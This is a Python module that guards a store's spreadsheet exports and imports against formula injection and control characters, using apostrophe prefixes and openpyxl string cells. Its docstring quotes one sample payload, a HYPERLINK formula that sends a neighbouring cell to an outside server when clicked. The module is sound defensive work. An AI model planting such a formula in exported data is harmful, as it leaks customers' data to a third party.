"""Text that leaves the store in a spreadsheet, and text that comes into it from one.

A cell beginning with = + - @ (or a tab or carriage return, which Excel skips before looking for
them) is a formula to Excel and WPS: `=HYPERLINK("http://host/?d="&E3,"点击")` sends a neighbouring
cell to anyone's server when clicked. Exports write such text as text: in CSV with a leading
apostrophe (the spreadsheet convention, taken off again by our importers), in .xlsx as a string cell.
Control characters (NUL and the like) have no place in a name or an address: an import refuses the
row; an export replaces them so one bad value never blocks the file, and says how many it replaced.
"""

from __future__ import annotations

import re

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
CSV_TEXT_MARK = "'"
REPLACEMENT = "\ufffd"
# C0 controls but tab, line feed and carriage return (kept in notes), DEL, and the C1 controls.
_CONTROL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f]")


def control_characters(text: str) -> list[str]:
    """The control characters in `text`, named as U+XXXX, for a problem message."""
    return sorted({f"U+{ord(ch):04X}" for ch in _CONTROL.findall(text)})


class Cleaner:
    """Replaces control characters in exported text and counts how many it replaced."""

    def __init__(self) -> None:
        self.replaced = 0

    def clean(self, text: str) -> str:
        cleaned, count = _CONTROL.subn(REPLACEMENT, text)
        self.replaced += count
        return cleaned

    def csv_text(self, value: object) -> str:
        """A CSV field that a spreadsheet shows as typed and never runs."""
        text = self.clean("" if value is None else str(value))
        return CSV_TEXT_MARK + text if text.startswith(FORMULA_STARTS) else text


def is_formula_like(text: str) -> bool:
    return text.startswith(FORMULA_STARTS)


def from_csv_text(text: str) -> str:
    """Undo `csv_text`'s mark: an apostrophe before a formula start came from an export."""
    if text.startswith(CSV_TEXT_MARK) and text[1:].startswith(FORMULA_STARTS):
        return text[1:]
    return text


def text_cell(cell, text: str):
    """An openpyxl cell holding `text` as a string, never a formula (openpyxl stores "=..." as one)."""
    cell.value = text
    cell.data_type = "s"
    if is_formula_like(text):
        cell.quotePrefix = True  # Excel shows it as typed and keeps it text when edited
    return cell
